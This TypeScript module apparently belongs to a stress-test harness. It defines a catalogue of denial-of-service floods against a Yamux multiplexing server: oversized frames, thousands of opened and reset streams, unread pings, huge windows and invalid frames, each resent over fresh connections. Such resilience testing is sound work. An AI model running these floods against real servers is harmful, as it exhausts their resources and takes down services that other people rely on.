import { type Attacker, drain, send } from './attacker.js'
import { clientProtocol, flags, frame, joined, negotiation, opening, yamux } from './wire.js'

/** What is done to a server for as long as the attacker has time. */
export type Attack = (attacker: Attacker) => Promise<void>

const mebibyte = new Uint8Array(1 << 20)

/** Frames without end; a new connection, under a new name, whenever one is gone. */
function flood(content: (turn: number) => Uint8Array, reads = true): Attack {
  return async (attacker) => {
    while (await attacker.goesOn()) {
      const connection = await attacker.connection().catch(() => undefined)
      if (connection === undefined) continue
      if (reads) drain(connection)
      else connection.pause()
      for (let turn = 0; await attacker.goesOn(); turn++) {
        if (!(await send(connection, content(turn)))) break
      }
      // Names are cheap, but not for nothing.
      await attacker.waits(50)
    }
  }
}

/** So many frames in one piece. */
function many(count: number, one: (i: number) => Uint8Array): Uint8Array {
  return joined(...Array.from({ length: count }, (_, i) => one(i)))
}

const stream = (turn: number, i = 0) => (turn * 100 + i) * 2 + 1

/** What can be done with frames of Yamux. */
export const onConnections: Readonly<Record<string, Attack>> = {
  'a frame of Yamux that announces 1 GiB, and all of it': flood((turn) =>
    turn === 0 ? yamux('data', flags.syn, 1, mebibyte, 2 ** 30) : mebibyte,
  ),
  'the same before the protocol is agreed on, in frames that fit': flood((turn) =>
    yamux('data', turn === 0 ? flags.syn : 0, 1, mebibyte.subarray(0, 1 << 17)),
  ),
  'all streams, each with as much as fits before its protocol': flood((turn) =>
    yamux('data', turn < 64 ? flags.syn : 0, (turn % 64) * 2 + 1, mebibyte.subarray(0, 1 << 13)),
  ),
  'more than the window': flood((turn) =>
    turn === 0
      ? yamux('data', flags.syn, 1, negotiation(clientProtocol))
      : many(8, () => yamux('data', 0, 1, mebibyte)),
  ),
  'thousands of streams': flood((turn) =>
    many(100, (i) => yamux('window', flags.syn, stream(turn, i))),
  ),
  'streams that are reset as they are opened': flood((turn) =>
    many(100, (i) =>
      joined(
        yamux('data', flags.syn, stream(turn, i), negotiation(clientProtocol)),
        yamux('window', flags.rst, stream(turn, i)),
      ),
    ),
  ),
  'pings, and no pong is read': flood(
    (turn) => many(100, (i) => yamux('ping', flags.syn, 0, turn + i)),
    false,
  ),
  'empty frames': flood(() => many(1000, () => yamux('data', 0, 1))),
  'frames for streams that are not there': flood((turn) =>
    yamux('data', 0, stream(turn), mebibyte.subarray(0, 1 << 16)),
  ),
  'windows of 4 GiB, and nothing is read': flood(
    (turn) =>
      turn < 8
        ? joined(
            yamux('window', flags.syn, turn * 2 + 1, 0, 2 ** 32 - 1),
            yamux('data', 0, turn * 2 + 1, joined(negotiation(clientProtocol), opening('shared'))),
          )
        : yamux('window', 0, (turn % 8) * 2 + 1, 0, 1),
    false,
  ),
  'millions of bytes, each in a frame of its own': flood((turn) =>
    turn === 0
      ? yamux(
          'data',
          flags.syn,
          1,
          joined(negotiation(clientProtocol), frame(new Uint8Array(0), 4096)),
        )
      : many(1000, () => yamux('data', 0, 1, Uint8Array.of(0))),
  ),
  'frames of another version': flood(() => new Uint8Array(1000).fill(0xff)),
}
